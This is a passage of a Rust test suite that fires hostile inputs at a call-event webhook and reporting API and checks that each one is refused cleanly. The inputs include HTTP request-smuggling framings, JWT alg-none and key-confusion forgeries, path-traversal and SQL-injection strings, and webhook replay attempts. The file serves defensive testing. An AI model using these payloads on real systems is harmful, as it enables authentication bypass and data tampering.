        "POST /api/callbacks?secret={SECRET} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{inner}",
        inner.len()
    );
    let chunked_body = format!("0\r\n\r\n{smuggled}");
    let start = format!("POST /api/callbacks?secret={SECRET} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n");
    for (name, framing, body) in [
        (
            "CL then TE",
            format!(
                "content-length: {}\r\ntransfer-encoding: chunked\r\n",
                chunked_body.len()
            ),
            chunked_body.clone(),
        ),
        (
            "TE then CL",
            format!(
                "transfer-encoding: chunked\r\ncontent-length: {}\r\n",
                chunked_body.len()
            ),
            chunked_body.clone(),
        ),
        (
            "CL with a short CL",
            format!(
                "content-length: 5\r\ncontent-length: {}\r\n",
                smuggled.len()
            ),
            format!("{{}}   {smuggled}"),
        ),
        (
            "two different CLs",
            format!(
                "content-length: 2\r\ncontent-length: {}\r\n",
                smuggled.len() + 2
            ),
            format!("[]{smuggled}"),
        ),
        (
            "CL with a sign",
            "content-length: +2\r\n".to_owned(),
            format!("[]{smuggled}"),
        ),
        (
            "CL in hex",
            "content-length: 0x2\r\n".to_owned(),
            format!("[]{smuggled}"),
        ),
        (
            "space before the colon",
            "content-length : 2\r\n".to_owned(),
            format!("[]{smuggled}"),
        ),
        (
            "TE with CL and obfuscated TE",
            format!(
                "content-length: {}\r\ntransfer-encoding: xchunked\r\n",
                chunked_body.len()
            ),
            chunked_body.clone(),
        ),
        (
            "a header folded over lines",
            "x-fold: a\r\n  b\r\ncontent-length: 2\r\n".to_owned(),
            format!("[]{smuggled}"),
        ),
    ] {
        cases.push(Case::raw(
            g,
            name,
            format!("{start}{framing}\r\n{body}").into_bytes(),
            Expect::Bare(400),
        ));
    }
    cases.push(Case::raw(
        g,
        "a request line that is not HTTP",
        b"POST /api/callbacks HTTP/9.9 extra\r\nhost: x\r\n\r\n".to_vec(),
        Expect::Bare(400),
    ));

    let g = "header floods";
    let flood = |n: usize, each: usize| {
        let mut head = "GET /healthz HTTP/1.1\r\nhost: x\r\nconnection: close\r\n".to_owned();
        for i in 0..n {
            head.push_str(&format!("x-flood-{i}: {}\r\n", "v".repeat(each)));
        }
        head.push_str("\r\n");
        head.into_bytes()
    };
    cases.push(Case::raw(
        g,
        "200 headers",
        flood(200, 10),
        Expect::Bare(431),
    ));
    cases.push(Case::raw(
        g,
        "5,000 headers",
        flood(5000, 10),
        Expect::Bare(431),
    ));
    // The HTTP layer's head limit is 128 KiB (not the 32 KiB the README says): a 40 KiB header is
    // served.
    cases.push(Case::raw(
        g,
        "one header of 40 KiB",
        flood(1, 40 * 1024),
        Expect::Answered,
    ));
    cases.push(Case::raw(
        g,
        "one header of 130 KiB",
        flood(1, 130 * 1024),
        Expect::Bare(431),
    ));
    cases.push(Case::raw(
        g,
        "a head of 1 MiB",
        flood(16, 64 * 1024),
        Expect::Bare(431),
    ));

    let g = "long URLs";
    let post_long = |name: &str, path: String| {
        Case::post(g, name.to_owned(), &path, "[]").refused(414, "uri_too_long")
    };
    cases.push(post_long(
        "a query of 8 KiB + 1",
        format!("/api/callbacks?secret={SECRET}&p={}", "x".repeat(8192)),
    ));
    cases.push(post_long(
        "a path of 10 kB",
        format!("/api/{}", "x".repeat(10_000)),
    ));
    cases.push(post_long(
        "a secret of 20 kB",
        format!("/api/callbacks?secret={}", "s".repeat(20_000)),
    ));
    cases.push(
        Case::get(
            "long URLs",
            "a reporting filter of 16 kB",
            format!("/api/v1/events?call_id={}", "c".repeat(16_000)),
        )
        .refused(414, "uri_too_long"),
    );
    cases.push(Case::raw(
        g,
        "a target of 40 KiB",
        format!(
            "GET /api/v1/events?x={} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n",
            "y".repeat(40 * 1024)
        )
        .into_bytes(),
        Expect::Refused(414, "uri_too_long"),
    ));
    cases.push(Case::raw(
        g,
        "a target of 130 KiB",
        format!(
            "GET /api/v1/events?x={} HTTP/1.1\r\nhost: x\r\n\r\n",
            "y".repeat(130 * 1024)
        )
        .into_bytes(),
        Expect::Bare(431),
    ));
    cases
}

fn jwt_cases() -> Vec<Case> {
    let g = "JWT";
    let key = |name: &str| {
        std::fs::read(
            std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("tests/fixtures")
                .join(name),
        )
        .unwrap()
    };
    let now = chrono::Utc::now().timestamp();
    let claims = |overrides: Value| {
        let mut c = json!({"iss": ISSUER, "aud": AUDIENCE, "iat": now, "nbf": now, "exp": now + 300, "sub": "acs"});
        for (k, v) in overrides.as_object().unwrap() {
            c[k] = v.clone();
        }
        c
    };
    let pem = key("jwt_key1.pem");
    let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let good = make_jwt(&pem, "key-1", &claims(json!({})));
    let payload = good.split('.').nth(1).unwrap().to_owned();
    let unsigned = |header: &str| format!("{}.{payload}.", b64.encode(header));
    let hmac = |secret: &[u8], alg: jsonwebtoken::Algorithm| {
        let mut header = jsonwebtoken::Header::new(alg);
        header.kid = Some("key-1".to_owned());
        jsonwebtoken::encode(
            &header,
            &claims(json!({})),
            &jsonwebtoken::EncodingKey::from_secret(secret),
        )
        .unwrap()
    };
    let jwks: Value = serde_json::from_slice(&key("jwks_key1.json")).unwrap();
    let n = jwks["keys"][0]["n"].as_str().unwrap().to_owned();
    let public_pem = rsa_public_pem(&b64.decode(&n).unwrap(), &[1, 0, 1]);
    let mut big_claims = claims(json!({}));
    big_claims["pad"] = Value::from("p".repeat(8 * 1024));
    let mut over_claims = claims(json!({}));
    over_claims["pad"] = Value::from("p".repeat(12 * 1024));
    let mut huge_claims = claims(json!({}));
    huge_claims["pad"] = Value::from("p".repeat(40 * 1024));

    let mut tokens: Vec<(String, String)> = vec![
        (
            "alg none".into(),
            unsigned(r#"{"alg":"none","typ":"JWT","kid":"key-1"}"#),
        ),
        (
            "alg None".into(),
            unsigned(r#"{"alg":"None","typ":"JWT","kid":"key-1"}"#),
        ),
        (
            "alg NONE with a signature".into(),
            format!(
                "{}{}",
                unsigned(r#"{"alg":"NONE","kid":"key-1"}"#),
                good.rsplit('.').next().unwrap()
            ),
        ),
        ("no alg".into(), unsigned(r#"{"typ":"JWT","kid":"key-1"}"#)),
        (
            "HS256 with the public key's PEM".into(),
            hmac(public_pem.as_bytes(), jsonwebtoken::Algorithm::HS256),
        ),
        (
            "HS256 with the JWKS file".into(),
            hmac(&key("jwks_key1.json"), jsonwebtoken::Algorithm::HS256),
        ),
        (
            "HS256 with the modulus".into(),
            hmac(n.as_bytes(), jsonwebtoken::Algorithm::HS256),
        ),
        (
            "HS512 with the public key's PEM".into(),
            hmac(public_pem.as_bytes(), jsonwebtoken::Algorithm::HS512),
        ),
        (
            "expired".into(),
            make_jwt(
                &pem,
                "key-1",
                &claims(json!({"exp": now - 3600, "nbf": now - 7200})),
            ),
        ),
        (
            "expired long ago".into(),
            make_jwt(
                &pem,
                "key-1",
                &claims(json!({"exp": 1, "nbf": 0, "iat": 0})),
            ),
        ),
        (
            "not yet valid".into(),
            make_jwt(
                &pem,
                "key-1",
                &claims(json!({"nbf": now + 3600, "exp": now + 7200})),
            ),
        ),
        (
            "no exp".into(),
            make_jwt(
                &pem,
                "key-1",
                &json!({"iss": ISSUER, "aud": AUDIENCE, "sub": "acs"}),
            ),
        ),
        (
            "exp as a string".into(),
            make_jwt(&pem, "key-1", &claims(json!({"exp": "never"}))),
        ),
        (
            "wrong audience".into(),
            make_jwt(&pem, "key-1", &claims(json!({"aud": "someone-else"}))),
        ),
        (
            "audience in other case".into(),
            make_jwt(
                &pem,
                "key-1",
                &claims(json!({"aud": AUDIENCE.to_uppercase()})),
            ),
        ),
        (
            "no audience".into(),
            make_jwt(
                &pem,
                "key-1",
                &json!({"iss": ISSUER, "exp": now + 300, "sub": "acs"}),
            ),
        ),
        (
            "empty audience list".into(),
            make_jwt(&pem, "key-1", &claims(json!({"aud": []}))),
        ),
        (
            "wrong issuer".into(),
            make_jwt(
                &pem,
                "key-1",
                &claims(json!({"iss": "https://evil.example.com"})),
            ),
        ),
        (
            "unknown kid".into(),
            make_jwt(&key("jwt_key2.pem"), "key-2", &claims(json!({}))),
        ),
        ("no kid".into(), {
            let header = jsonwebtoken::Header::new(jsonwebtoken::Algorithm::RS256);
            jsonwebtoken::encode(
                &header,
                &claims(json!({})),
                &jsonwebtoken::EncodingKey::from_rsa_pem(&pem).unwrap(),
            )
            .unwrap()
        }),
        (
            "another key under our kid".into(),
            make_jwt(&key("jwt_key2.pem"), "key-1", &claims(json!({}))),
        ),
        (
            "kid with SQL".into(),
            make_jwt(&pem, "' OR '1'='1", &claims(json!({}))),
        ),
        (
            "kid as a path".into(),
            make_jwt(&pem, "../../../../etc/passwd", &claims(json!({}))),
        ),
        (
            "kid of 4 kB".into(),
            make_jwt(&pem, &"k".repeat(4096), &claims(json!({}))),
        ),
        ("oversized: 8 KiB of claims, wrong audience".into(), {
            let mut c = big_claims.clone();
            c["aud"] = Value::from("someone-else");
            make_jwt(&pem, "key-1", &c)
        }),
        (
            "oversized: a good token over 16 KiB".into(),
            make_jwt(&pem, "key-1", &over_claims),
        ),
        ("tampered claims".into(), {
            let parts: Vec<&str> = good.split('.').collect();
            format!(
                "{}.{}.{}",
                parts[0],
                b64.encode(claims(json!({"sub": "attacker"})).to_string()),
                parts[2]
            )
        }),
        (
            "signature dropped".into(),
            good.rsplit_once('.').unwrap().0.to_owned() + ".",
        ),
        (
            "signature of zeros".into(),
            format!(
                "{}.{}",
                good.rsplit_once('.').unwrap().0,
                b64.encode([0u8; 256])
            ),
        ),
        ("four segments".into(), format!("{good}.x")),
        ("not base64".into(), "!!!.@@@.###".to_owned()),
        (
            "header not JSON".into(),
            format!("{}.{payload}.{}", b64.encode("not json"), b64.encode("sig")),
        ),
        ("empty".into(), String::new()),
        ("garbage".into(), "not.a.jwt".to_owned()),
    ];
    tokens.push((
        "the query secret as a bearer token".into(),
        SECRET.to_owned(),
    ));
    let mut cases: Vec<Case> = tokens
        .into_iter()
        .map(|(name, token)| {
            Case::post(
                g,
                name,
                "/api/callbacks",
                json!([b_tone("jwt-never", "c-jwt", 1, "one", T)]).to_string(),
            )
            .header("authorization", format!("Bearer {token}"))
            .refused(401, "unauthorized")
        })
        .collect();
    let body = json!([b_tone("jwt-never", "c-jwt", 1, "one", T)]).to_string();
    for (name, value) in [
        (
            "Basic scheme",
            format!("Basic {}", b64.encode(format!("user:{SECRET}"))),
        ),
        ("no scheme", good.clone()),
        ("two tokens", format!("Bearer {good} {good}")),
    ] {
        cases.push(
            Case::post(g, name, "/api/callbacks", body.clone())
                .header("authorization", value)
                .refused(401, "unauthorized"),
        );
    }
    let huge = make_jwt(&pem, "key-1", &huge_claims);
    cases.push(Case::raw(
        g,
        "oversized: a token of 54 KiB (under the head limit, refused by the verifier)",
        format!(
            "POST /api/callbacks HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\nauthorization: Bearer {huge}\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{body}",
            body.len()
        )
        .into_bytes(),
        Expect::Refused(401, "unauthorized"),
    ));
    cases.push(
        Case::post(
            g,
            "a good token",
            "/api/callbacks",
            json!([b_tone("jwt-good", "c-jwt", 1, "one", T)]).to_string(),
        )
        .header("authorization", format!("Bearer {good}")),
    );
    cases.push(
        Case::post(
            g,
            "a good token with 8 KiB of claims",
            "/api/callbacks",
            json!([b_tone("jwt-big", "c-jwt", 2, "two", T)]).to_string(),
        )
        .header(
            "authorization",
            format!("Bearer {}", make_jwt(&pem, "key-1", &big_claims)),
        ),
    );
    cases
}

/// The PEM of an RSA public key (SubjectPublicKeyInfo), from its modulus and exponent.
fn rsa_public_pem(n: &[u8], e: &[u8]) -> String {
    fn len(n: usize) -> Vec<u8> {
        if n < 128 {
            vec![n as u8]
        } else {
            let bytes: Vec<u8> = n
                .to_be_bytes()
                .into_iter()
                .skip_while(|b| *b == 0)
                .collect();
            let mut out = vec![0x80 | bytes.len() as u8];
            out.extend(bytes);
            out
        }
    }
    fn tlv(tag: u8, content: &[u8]) -> Vec<u8> {
        let mut out = vec![tag];
        out.extend(len(content.len()));
        out.extend(content);
        out
    }
    let int = |v: &[u8]| {
        let mut c = Vec::new();
        if v[0] & 0x80 != 0 {
            c.push(0);
        }
        c.extend(v);
        tlv(0x02, &c)
    };
    let rsa_key = tlv(0x30, &[int(n), int(e)].concat());
    let mut bits = vec![0u8];
    bits.extend(rsa_key);
    let algorithm = tlv(
        0x30,
        &[
            tlv(
                0x06,
                &[0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01],
            ),
            vec![0x05, 0x00],
        ]
        .concat(),
    );
    let spki = tlv(0x30, &[algorithm, tlv(0x03, &bits)].concat());
    let b64 = base64::engine::general_purpose::STANDARD.encode(spki);
    let lines: Vec<&str> = b64
        .as_bytes()
        .chunks(64)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
        lines.join("\n")
    )
}

fn webhook_cases() -> Vec<Case> {
    let g = "Standard Webhooks";
    let now = chrono::Utc::now().timestamp();
    let body = json!([b_tone("wh-never", "c-wh", 1, "one", T)]).to_string();
    let signed = |name: &str, id: &str, ts: String, signature: String, body: &str| {
        Case::post(g, name.to_owned(), "/api/callbacks", body.to_owned())
            .header("webhook-id", id)
            .header("webhook-timestamp", ts)
            .header("webhook-signature", signature)
    };
    let sign =
        |id: &str, ts: i64, body: &str| sign_webhook(WHSEC, id, ts, body.as_bytes()).unwrap();
    let mut cases = Vec::new();
    for (name, offset) in [
        ("replayed 301 s late", -301),
        ("replayed 10 minutes late", -600),
        ("replayed a day late", -86_400),
        ("replayed a year late", -31_536_000),
        ("301 s in the future", 301),
        ("a day in the future", 86_400),
    ] {
        let ts = now + offset;
        cases.push(
            signed(
                name,
                "msg_r",
                ts.to_string(),
                sign("msg_r", ts, &body),
                &body,
            )
            .refused(401, "unauthorized"),
        );
    }
    for (name, ts) in [
        ("timestamp 0", 0_i64),
        ("timestamp -1", -1),
        ("timestamp in year 5138", 99_999_999_999),
    ] {
        cases.push(
            signed(
                name,
                "msg_r",
                ts.to_string(),
                sign("msg_r", ts, &body),
                &body,
            )
            .refused(401, "unauthorized"),
        );
    }
    let good = sign("msg_r", now, &body);
    for (name, ts) in [
        (
            "timestamp beyond 64 bits",
            "99999999999999999999999".to_owned(),
        ),
        ("timestamp with a fraction", format!("{now}.5")),
        ("timestamp in RFC 3339", chrono::Utc::now().to_rfc3339()),
        ("timestamp with SQL", format!("{now}' OR '1'='1")),
        ("timestamp empty", String::new()),
    ] {
        cases.push(signed(name, "msg_r", ts, good.clone(), &body).refused(401, "unauthorized"));
    }
    let wrong = sign_webhook(
        "whsec_d3Jvbmcgc2VjcmV0IGZvciB0ZXN0aW5nIQ==",
        "msg_r",
        now,
        body.as_bytes(),
    )
    .unwrap();
    for (name, id, sig, sent) in [
        ("wrong secret", "msg_r", wrong.clone(), body.clone()),
        (
            "tampered body",
            "msg_r",
            good.clone(),
            body.replace("one", "two"),
        ),
        ("another id", "msg_x", good.clone(), body.clone()),
        (
            "not base64",
            "msg_r",
            "v1,not-base64!!".to_owned(),
            body.clone(),
        ),
        ("empty v1", "msg_r", "v1,".to_owned(), body.clone()),
        (
            "v1a instead of v1",
            "msg_r",
            good.replace("v1,", "v1a,"),
            body.clone(),
        ),
        (
            "10,000 wrong signatures",
            "msg_r",
            vec![wrong.as_str(); 200].join(" "),
            body.clone(),
        ),
        (
            "a signature of 20 kB",
            "msg_r",
            format!("v1,{}", "A".repeat(20_000)),
            body.clone(),
        ),
        (
            "an id with SQL",
            "'; DROP TABLE events; --",
            good.clone(),
            body.clone(),
        ),
    ] {
        cases.push(signed(name, id, now.to_string(), sig, &sent).refused(401, "unauthorized"));
    }
    for missing in ["webhook-id", "webhook-timestamp", "webhook-signature"] {
        cases.push(
            signed(
                &format!("no {missing}"),
                "msg_r",
                now.to_string(),
                good.clone(),
                &body,
            )
            .without_header(missing)
            .refused(401, "unauthorized"),
        );
    }
    let fresh = json!([b_tone("wh-good", "c-wh", 1, "one", T)]).to_string();
    let sig = sign("msg_good", now, &fresh);
    cases.push(signed(
        "a good signature",
        "msg_good",
        now.to_string(),
        sig.clone(),
        &fresh,
    ));
    cases.push(
        signed(
            "the same message replayed within the tolerance",
            "msg_good",
            now.to_string(),
            sig,
            &fresh,
        )
        .expect(Expect::Stored(0)),
    );
    cases
}

/// Every string field of a GA event holding each injection string: stored as sent, byte for byte.
fn injection_cases() -> Vec<Case> {
    let g = "injection into events";
    let mut cases = Vec::new();
    let mut n = 0;
    for text in INJECTIONS {
        for field in [
            "id",
            "source",
            "type",
            "subject",
            "data.callConnectionId",
            "data.serverCallId",
            "data.correlationId",
            "data.operationContext",
            "data.resultInformation.message",
            "data.participants.0.identifier.rawId",
            "data.participants.0.participantId",
        ] {
            n += 1;
            let id = format!("inj-{n}");
            let mut event = b_participants(
                &id,
                &format!("c-inj-{n}"),
                1,
                &[(phone("+14255550100"), false, false)],
                T,
            );
            event["data"]["operationContext"] = Value::from("ctx");
            event["data"]["resultInformation"] =
                json!({"code": 200, "subCode": 0, "message": "ok"});
            let pointer = format!("/{}", field.replace('.', "/"));
            let (parent, key) = pointer.rsplit_once('/').unwrap();
            event.pointer_mut(parent).unwrap()[key] = Value::from(*text);
            let stored_id = if field == "id" {
                (*text).to_owned()
            } else {
                id.clone()
            };
            if field == "id" {
                event["source"] = Value::from(format!("src-{n}"));
            }
            let raw = event.to_string();
            let mut case = Case::callback(g, format!("{field} = {text:?}"), format!("[{raw}]"));
            case.verbatim = Some((stored_id, raw));
            cases.push(case);
        }
        n += 1;
        let mut event = b_tone(&format!("inj-{n}"), "c-inj", 1, "one", T);
        event["time"] = Value::from(*text);
        cases.push(
            Case::callback(g, format!("time = {text:?}"), json!([event]).to_string())
                .refused(400, "invalid_event")
                .message("field `time` must be an RFC 3339 timestamp"),
        );
    }
    cases
}

fn encode(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// Every reporting-API parameter and path id holding each injection string: a 200 or a 400 (a
/// 404 for an id that names nothing), never a 5xx; and the events stored with them are found.
fn reporting_cases() -> Vec<Case> {
    let g = "injection into the reporting API";
    let mut cases = Vec::new();
    let params: &[(&str, &[&str])] = &[
        (
            "/api/v1/calls",
            &[
                "from",
                "to",
                "state",
                "outcome",
                "participant",
                "cursor",
                "limit",
                "order",
            ],
        ),
        (
            "/api/v1/events",
            &[
                "from",
                "to",
                "type",
                "call_id",
                "correlation_id",
                "operation_context",
                "auth_scheme",
                "json_path",
                "json_value",
                "cursor",
                "limit",
                "order",
            ],
        ),
        (
            "/api/v1/events/export",
            &["format", "type", "call_id", "json_path"],
        ),
        ("/api/v1/reports/summary", &["from", "to", "bucket"]),
        (
            "/api/v1/participants/x/calls",
            &["cursor", "limit", "order"],
        ),
        (
            "/api/v1/calls/c-inj-1/events",
            &["cursor", "limit", "order"],
        ),
    ];
    let paths = [
        "/api/v1/calls/{}",
        "/api/v1/calls/{}/participants",
        "/api/v1/calls/{}/events",
        "/api/v1/calls/{}/dtmf",
        "/api/v1/calls/{}/media",
        "/api/v1/participants/{}/calls",
        "/api/v1/events/{}",
        "/api/v1/events/{}/raw",
    ];
    for text in INJECTIONS {
        let value = encode(text);
        for (route, names) in params {
            for name in *names {
                let extra = if *name == "json_path" {
                    "&json_value=1"
                } else if route.ends_with("export") && *name != "format" {
                    "&format=ndjson"
                } else {
                    ""
                };
                let sep = if route.contains('?') { '&' } else { '?' };
                let path = format!("{route}{sep}{name}={value}{extra}");
                cases.push(Case::get(g, format!("{route} {name}={text:?}"), path));
            }
        }
        for path in paths {
            cases.push(Case::get(
                g,
                format!("{path} with {text:?}"),
                path.replace("{}", &value),
            ));
        }
        // The events stored with this text in a filtered field are found by it, and only they.
        for filter in ["type", "call_id", "correlation_id", "operation_context"] {
            cases.push(
                Case::get(
                    g,
                    format!("found by {filter}={text:?}"),
                    format!("/api/v1/events?{filter}={value}"),
                )
                .expect(Expect::Found(1)),
            );
        }
        cases.push(Case::get(
            g,
            format!("json_value={text:?}"),
            format!("/api/v1/events?json_path=data.operationContext&json_value={value}"),
        ));
    }
    let g = "reporting API tokens";
    let bad_tokens = [
        ("no token", None),
        ("an empty bearer", Some("Bearer ".to_owned())),
        ("a wrong token", Some("Bearer not-the-token".to_owned())),
        (
            "the token with a suffix",
            Some(format!("Bearer {API_TOKEN}x")),
        ),
        (
            "the token's hash",
            Some(format!(
                "Bearer {}",
                calltrail::auth::tokens::hash_token(API_TOKEN)
            )),
        ),
        (
            "the scraper's token",
            Some(format!("Bearer {METRICS_TOKEN}")),
        ),
        (
            "Basic",
            Some(format!(
                "Basic {}",
                base64::engine::general_purpose::STANDARD.encode(format!("x:{API_TOKEN}"))
            )),
        ),
        ("SQL as a token", Some("Bearer ' OR '1'='1".to_owned())),
        ("the query secret", Some(format!("Bearer {SECRET}"))),
    ];
    for route in [
        "/api/v1/events",
        "/api/v1/calls",
        "/api/v1/openapi.json",
        "/api/v1/events/export?format=csv",
    ] {
        for (name, value) in &bad_tokens {
            let mut case = Case::get(g, format!("{route} with {name}"), route.to_owned())
                .without_header("authorization")
                .refused(401, "unauthorized");
            if let Some(v) = value {
                case = case.header("authorization", v.clone());
            }
            cases.push(case);
        }
    }
    cases.push(
        Case::get(
            g,
            "the query secret in the query string",
            format!("/api/v1/events?secret={SECRET}"),
        )
        .without_header("authorization")
        .refused(401, "unauthorized"),
    );
    cases
}

// ---- running them ----

#[derive(Debug)]
struct Answer {
    status: u16,
    body: String,
    reset: bool,
}

async fn send(app: &TestApp, case: &Case) -> Answer {
    if let Some(bytes) = &case.raw {
        return send_raw(app, bytes.clone()).await;
    }
    let mut request = app.client.request(case.method.clone(), app.url(&case.path));
    for (name, value) in &case.headers {
        request = request.header(name, value);
    }
    if case.method == reqwest::Method::POST {
        request = request.body(case.body.clone());
    }
    let response = request
        .timeout(Duration::from_secs(20))
        .send()
        .await
        .unwrap_or_else(|e| panic!("{} / {}: {e}", case.group, case.name));
    let status = response.status().as_u16();
    let body = response.text().await.unwrap_or_default();
    Answer {
        status,
        body,
        reset: false,
    }
}

/// Writes `bytes` on a connection of its own (while reading, so that a server that stops reading
/// cannot block the writer) and reads the answer until the server closes.
async fn send_raw(app: &TestApp, bytes: Vec<u8>) -> Answer {
    let stream = TcpStream::connect(app.address.trim_start_matches("http://"))
        .await
        .unwrap();
    let (mut reader, mut writer) = stream.into_split();
    let writing = tokio::spawn(async move {
        let _ = writer.write_all(&bytes).await;
        // Keep the write half open: closing it could end the request early.
        tokio::time::sleep(Duration::from_secs(15)).await;
        drop(writer);
    });
    let mut answer = Vec::new();
    let mut reset = false;
    let read = tokio::time::timeout(Duration::from_secs(15), async {
        let mut buf = [0u8; 16 * 1024];
        loop {
            match reader.read(&mut buf).await {
                Ok(0) => break,
                Ok(n) => answer.extend_from_slice(&buf[..n]),
                Err(_) => {
                    reset = true;
                    break;
                }
            }
        }
    })
    .await;
    writing.abort();
    assert!(read.is_ok(), "the server did not close the connection");
    let text = String::from_utf8_lossy(&answer).into_owned();
    let status = text
        .strip_prefix("HTTP/1.1 ")
        .and_then(|rest| rest.get(..3))
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let body = text
        .split_once("\r\n\r\n")
        .map(|(_, b)| b.to_owned())
        .unwrap_or_default();
    Answer {
        status,
        body,
        reset: reset && text.is_empty(),
    }
}

fn error_shape(answer: &Answer) -> Option<(String, String)> {
    let v: Value = serde_json::from_str(&answer.body).ok()?;
    Some((
        v["code"].as_str()?.to_owned(),
        v["message"].as_str()?.to_owned(),
    ))
}

/// Checks one answer against what the case expects; the failure, if any.
fn judge(case: &Case, answer: &Answer) -> Result<i64, String> {
    let shown = || {
        format!(
            "{} {}: {}",
            answer.status,
            if answer.body.len() > 300 {
                &answer.body[..300]
            } else {
                &answer.body
            },
            if answer.reset { "(reset)" } else { "" }
        )
    };
    if answer.status >= 500 {
        return Err(format!("a 5xx: {}", shown()));
    }
    match &case.expect {
        Expect::Refused(status, code) => {
            let (got, message) =
                error_shape(answer).ok_or_else(|| format!("not the error shape: {}", shown()))?;
            if answer.status != *status || got != *code {
                return Err(format!("expected {status} {code}, got {}", shown()));
            }
            if let Some(want) = &case.message {
                if !message.contains(want.as_str()) {
                    return Err(format!("message {message:?} lacks {want:?}"));
                }
            }
            Ok(0)
        }
        Expect::Bare(status) => {
            if answer.status != *status || !answer.body.is_empty() {
                return Err(format!("expected a bare {status}, got {}", shown()));
            }
            Ok(0)
        }
        Expect::Stored(n) => {
            if answer.status != 200 {
                return Err(format!("expected 200, got {}", shown()));
            }
            Ok(*n)
        }
        Expect::Answered => match answer.status {
            200 => Ok(0),
            400 | 404 => error_shape(answer)
                .map(|_| 0)
                .ok_or_else(|| format!("not the error shape: {}", shown())),
            _ => Err(format!("expected 200, 400 or 404, got {}", shown())),
        },
        Expect::Found(n) => {
            let page: Value = serde_json::from_str(&answer.body)
                .map_err(|_| format!("not a page: {}", shown()))?;
            let items = page["items"].as_array().map_or(usize::MAX, Vec::len);
            if answer.status != 200 || items != *n {
                return Err(format!("expected a page of {n}, got {}", shown()));
            }
            Ok(0)
        }
        Expect::TooLargeOrReset => {
            if answer.reset
                || (answer.status == 413
                    && error_shape(answer).is_some_and(|(c, _)| c == "payload_too_large"))
            {
                Ok(0)
            } else {
                Err(format!("expected 413 or a reset, got {}", shown()))
            }
        }
    }
}

async fn still_answers(app: &TestApp, n: usize) {
    let health = app.client.get(app.url("/healthz")).send().await.unwrap();
    assert_eq!(health.status(), 200, "healthz after group {n}");
    let before = app.event_count().await;
    let response = app
        .post_callback(
            json!([b_tone(&format!("alive-{n}"), "c-alive", n as i64, "one", T)]).to_string(),
        )
        .await;
    assert_eq!(response.status(), 200, "a good delivery after group {n}");
    assert_eq!(
        app.event_count().await,
        before + 1,
        "a good delivery after group {n} is stored"
    );
}

async fn spawn_corpus_app() -> TestApp {
    let jwks =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/jwks_key1.json");
    TestApp::spawn_with(move |s| {
        s.api.tokens = vec![calltrail::auth::tokens::hash_token(API_TOKEN)];
        // Hundreds of reporting requests in a few seconds: no per-token rate limit here.
        s.api.rate_limit_per_second = 0;
        s.auth.jwt.enabled = true;
        s.auth.jwt.audiences = vec![AUDIENCE.to_owned()];
        s.auth.jwt.jwks_file = Some(jwks);
        s.auth.webhook_signature.enabled = true;
        s.auth.webhook_signature.secrets = vec![WHSEC.to_owned().into()];
    })
    .await
}

#[tokio::test]
async fn the_hostile_corpus_is_refused_cleanly_and_changes_nothing() {
    let app = spawn_corpus_app().await;
    let started = std::time::Instant::now();
    // Built just before they run: the credentials among them are minted with the current time.
    let groups: Vec<fn() -> Vec<Case>> = vec![
        body_cases,
        size_cases,
        over_limit_cases,
        generated_field_cases,
        content_type_cases,
        http_layer_cases,
        jwt_cases,
        webhook_cases,
        injection_cases,
        reporting_cases,
    ];
    let mut failures = Vec::new();
    let mut run = 0;
    let mut by_group: Vec<(&'static str, usize)> = Vec::new();
    for (n, group) in groups.into_iter().enumerate() {
        for case in group() {
            let before = app.event_count().await;
            let answer = send(&app, &case).await;
            run += 1;
            match by_group.iter_mut().find(|(g, _)| *g == case.group) {
                Some((_, count)) => *count += 1,
                None => by_group.push((case.group, 1)),
            }
            let stored = match judge(&case, &answer) {
                Ok(stored) => stored,
                Err(why) => {
                    failures.push(format!("[{}] {}: {why}", case.group, case.name));
                    continue;
                }
            };
            let after = app.event_count().await;
            if after != before + stored {
                failures.push(format!(
                    "[{}] {}: {} events stored, expected {stored}",
                    case.group,
                    case.name,
                    after - before
                ));
            }
            if let Some((id, raw)) = &case.verbatim {
                let got: Option<String> =
                    sqlx::query_scalar("SELECT raw FROM events WHERE event_id = $1")
                        .bind(id)
                        .fetch_optional(&app.pool)
                        .await
                        .unwrap();
                if got.as_deref() != Some(raw.as_str()) {
                    failures.push(format!(
                        "[{}] {}: stored raw differs: {got:?}",
                        case.group, case.name
                    ));
                }
            }
        }
        still_answers(&app, n).await;
    }
    // What the corpus stored (injection strings in ids, huge contexts, wide snapshots) is projected
    // into the call model like any other call.
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    loop {
        let queued = app.count_rows("projection_queue").await;
        if queued == 0 {
            break;
        }
        if std::time::Instant::now() > deadline {
            failures.push(format!(
                "{queued} calls still queued for projection after 30 s"
            ));
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    println!(
        "hostile corpus: {run} cases in {:.1} s",
        started.elapsed().as_secs_f64()
    );
    for (group, count) in &by_group {
        println!("  {count:5}  {group}");
    }
    assert!(
        failures.is_empty(),
        "{} of {run} cases failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
    assert!(run >= 150, "only {run} cases");
}

/// A call state too long for a B-tree entry (the call model indexes `calls.state`) is refused at
/// ingestion, naming the field, as call ids are: stored, it stalled the projector for its call and
/// its neighbours. The neighbour is projected.
#[tokio::test]
async fn a_call_state_too_long_for_an_index_entry_is_refused_and_the_call_model_goes_on() {
    let app = TestApp::spawn().await;
    // Text that does not compress (xorshift): an index entry holds about 2.7 kB.
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let state: String = (0..4000)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            char::from(
